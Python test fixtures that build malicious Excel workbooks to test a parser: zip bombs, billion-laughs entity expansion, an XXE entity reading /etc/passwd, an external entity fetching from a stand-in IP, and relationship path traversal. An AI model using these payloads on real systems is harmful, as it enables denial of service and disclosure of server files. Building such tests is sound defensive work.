"""Small workbooks that ask for much: each a change of a workbook that is all right."""

import io
import struct
import zipfile
from collections.abc import Callable
from itertools import pairwise

from foreign_files.zips import BOOK, RELS, SHEET, STRINGS, STYLES, unzipped, zipped

Bomb = Callable[[bytes], bytes]
MANY = 1_048_576  # rows of a sheet
_FAR = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>{}</t></is></c></row>'
_LINK = (
    '<Relationship Id="x{}" Type="x/externalLink" Target="//192.0.2.1/x" TargetMode="External"/>'
)
_OUT = '<Relationship Id="rId1" Type="x/worksheet" Target="../../../../../etc/passwd"/>'
_CORNERS = '<row r="20"><c r="BH20"><v>1</v></c></row><row r="2900"><c r="A2900"><v>1</v></c></row>'
_WORD = '<c r="{}{}" t="inlineStr"><is><t>{}</t></is></c>'
_NAMES = "zabcdefghij"
_LAUGHS = '<!ENTITY z "haha">' + "".join(
    f'<!ENTITY {name} "{f"&{below};" * 10}">' for below, name in pairwise(_NAMES)
)


def put(name: str, before: str, text: str) -> Bomb:
    """`text` stands in a part before the last `before`."""

    def laid(raw: bytes) -> bytes:
        parts = unzipped(raw)
        head, mark, rest = parts[name].decode().rpartition(before)
        assert mark, f"{name} has no {before}"
        return zipped(parts | {name: f"{head}{text}{mark}{rest}".encode()})

    return laid


def rows(text: str) -> Bomb:
    return put(SHEET, "</sheetData>", text)


def every(step: int, row: str) -> Bomb:
    """Rows down to the end of the sheet."""
    return rows("".join(row.replace("#", str(n)) for n in range(20, MANY, step)))


def merged(*areas: str) -> Bomb:
    cells = "".join(f'<mergeCell ref="{area}"/>' for area in areas)
    return put(SHEET, "<pageMargins", f"<mergeCells>{cells}</mergeCells>")


def part(name: str, content: str | bytes, method: int = zipfile.ZIP_DEFLATED) -> Bomb:
    """A part is another one."""
    content = content.encode() if isinstance(content, str) else content
    return lambda raw: zipped(unzipped(raw) | {name: content}, method)


def more(contents: Callable[[bytes], dict[str, bytes]]) -> Bomb:
    """Parts that nobody asks for."""
    return lambda raw: zipped(unzipped(raw) | contents(raw))


def entities(name: str, declared: str, used: str = "&j;") -> Bomb:
    """A part declares entities, and uses one."""

    def laid(raw: bytes) -> bytes:
        parts = unzipped(raw)
        head, _, rest = parts[name].decode().partition("?>")
        body = rest.replace("</", f"{used}</", 1)
        return zipped(parts | {name: f"{head}?><!DOCTYPE x [{declared}]>{body}".encode()})

    return laid


def overlapping(raw: bytes) -> bytes:
    """Many members that share one compressed stream, as D. Fifield describes."""
    packed = zipped({"xl/big.xml": b" " * 20_000_000} | unzipped(raw))
    end = packed.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", packed[end + 10 : end + 20])
    entry = packed[start : packed.index(b"PK\x01\x02", start + 4)]
    again = entry * 5_000
    tail = struct.pack("<HHHHIIH", 0, 0, count + 5_000, count + 5_000, size + len(again), start, 0)
    return packed[:start] + again + packed[start:end] + b"PK\x05\x06" + tail


def lying(raw: bytes) -> bytes:
    """A sheet that unpacks to far more than it says."""
    packed = bytearray(zipped(unzipped(raw) | {SHEET: b"<worksheet>" + b" " * 300_000_000}))
    with zipfile.ZipFile(io.BytesIO(packed)) as read:
        before = read.namelist().index(SHEET)
    at = 0
    for _ in range(before + 1):
        at = packed.index(b"PK\x01\x02", at + 1)
    packed[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(packed)


def cornered(raw: bytes) -> bytes:
    """Sheets that hold next to nothing, at both ends of the largest table that is read."""
    parts = unzipped(rows(_CORNERS)(raw))
    head, mark, rest = parts[BOOK].decode().rpartition("</sheets>")
    more = "".join(f'<sheet name="x{n}" sheetId="{n}" r:id="rId1"/>' for n in range(20, 110))
    return zipped(parts | {BOOK: f"{head}{more}{mark}{rest}".encode()})


def _entries(count: int) -> str:
    """Rows of a table that has only these columns, each a new entry."""
    titles = ("部门", "任务编号", "材料名称", "交的日期")
    table = [titles, *(("教学部", "P1-1", f"材料{n}", "2025-06-18") for n in range(count))]
    return "".join(
        f'<row r="{n}">{"".join(_WORD.format(column, n, word) for column, word in each)}</row>'
        for n, each in enumerate((zip("ABCD", each, strict=True) for each in table), 1)
    )


def bomb(name: str, raw: bytes) -> bytes:
    """A workbook made into a bomb."""
    return BOMBS[name]()(raw)


_FULL = "<c><v>1</v></c>"
BOMBS: dict[str, Callable[[], Bomb]] = {
    "a merged column": lambda: merged("K1:K1048576"),
    "everything merged": lambda: merged("A4:XFD1048576"),
    "all columns merged": lambda: merged(*(f"B{n}:B1048576" for n in range(1, 16_384))),
    "a far cell": lambda: rows(_FAR.format("x")),
    "a far blank": lambda: rows(_FAR.format(" ")),
    "formats down to the end": lambda: every(3, '<row r="#" s="1"/>'),
    "blank cells down to the end": lambda: every(2, '<row r="#"><c r="A#" s="1"/></row>'),
    "blank texts down to the end": lambda: every(
        2, '<row r="#"><c r="A#" t="str"><v> </v></c></row>'
    ),
    "a full sheet": lambda: rows(
        "".join(f'<row r="{n}">{_FULL * 60}</row>' for n in range(20, 3_000))
    ),
    "columns without end": lambda: rows(f'<row r="20">{_FULL * 900_000}</row>'),
    "one row again and again": lambda: rows('<row r="20"><c r="A20"><v>1</v></c></row>' * 500_000),
    "a dimension claimed": lambda: put(SHEET, "<sheetViews", '<dimension ref="A1:XFD1048576"/>'),
    "hidden columns": lambda: put(
        SHEET, "<sheetData", '<col max="999999999" hidden="1"/>' * 50_000
    ),
    "a million strings": lambda: put(STRINGS, "</sst>", "<si><t>x</t></si>" * 1_000_000),
    "a long string": lambda: put(STRINGS, "</sst>", f"<si><t>{'x' * 30_000_000}</t></si>"),
    "a string of many runs": lambda: put(STRINGS, "</si>", "<r><t>x</t></r>" * 1_000_000),
    "spaces without end": lambda: part(SHEET, b"<worksheet>" + b" " * 200_000_000),
    "a size that lies": lambda: lying,
    "members that overlap": lambda: overlapping,
    "workbooks in a workbook": lambda: more(lambda raw: {f"xl/{n}.xlsx": raw for n in range(200)}),
    "many members": lambda: more(lambda raw: {f"xl/{n}": b"" for n in range(40_000)}),
    "another method": lambda: part(SHEET, b"<x>" * 900_000, zipfile.ZIP_BZIP2),
    "one more method": lambda: part(SHEET, b"<x>" * 900_000, zipfile.ZIP_LZMA),
    "laughs in strings": lambda: entities(STRINGS, _LAUGHS),
    "laughs in the sheet": lambda: entities(SHEET, _LAUGHS),
    "laughs in the workbook": lambda: entities(BOOK, _LAUGHS),
    "laughs in relations": lambda: entities(RELS, _LAUGHS),
    "an outer entity": lambda: entities(SHEET, '<!ENTITY j SYSTEM "file:///etc/passwd">'),
    "one entity very often": lambda: entities(
        SHEET, f'<!ENTITY j "{"x" * 50_000}">', "&j;" * 20_000
    ),
    "an outer declaration": lambda: entities(
        STYLES, '<!ENTITY % j SYSTEM "http://192.0.2.1/x"> %j;', ""
    ),
    "deep elements": lambda: part(SHEET, "<a>" * 2_000_000),
    "deep elements that end": lambda: part(SHEET, "<a>" * 500_000 + "</a>" * 500_000),
    "a long attribute": lambda: part(SHEET, f'<worksheet a="{"x" * 20_000_000}"/>'),
    "many attributes": lambda: part(
        SHEET, "<w" + "".join(f' a{n}=""' for n in range(500_000)) + "/>"
    ),
    "many styles": lambda: put(STYLES, "</cellXfs>", '<xf numFmtId="14" fontId="1"/>' * 600_000),
    "many formats": lambda: put(
        STYLES,
        "</styleSheet>",
        "".join(f'<numFmt numFmtId="{n}" formatCode="{"[" * 200}"/>' for n in range(30_000)),
    ),
    "a long format": lambda: put(
        STYLES, "<fonts", f'<numFmt numFmtId="1" formatCode="{"0;" * 500_000}"/>'
    ),
    "many sheets": lambda: put(
        BOOK, "</sheets>", '<sheet name="x" sheetId="9" r:id="rId1"/>' * 20_000
    ),
    "the same sheet often": lambda: put(
        BOOK,
        "</sheets>",
        "".join(f'<sheet name="x{n}" sheetId="{n}" r:id="rId1"/>' for n in range(90)),
    ),
    "far corners of many sheets": lambda: cornered,
    "many new entries": lambda: part(
        SHEET, f"<worksheet><sheetData>{_entries(2_900)}</sheetData></worksheet>"
    ),
    "many names": lambda: put(
        BOOK, "</workbook>", '<definedName name="x">A1</definedName>' * 400_000
    ),
    "links to elsewhere": lambda: put(
        RELS, "</Rel", "".join(_LINK.format(n) for n in range(50_000))
    ),
    "a way out": lambda: put(RELS, "</Relationships>", _OUT),
}
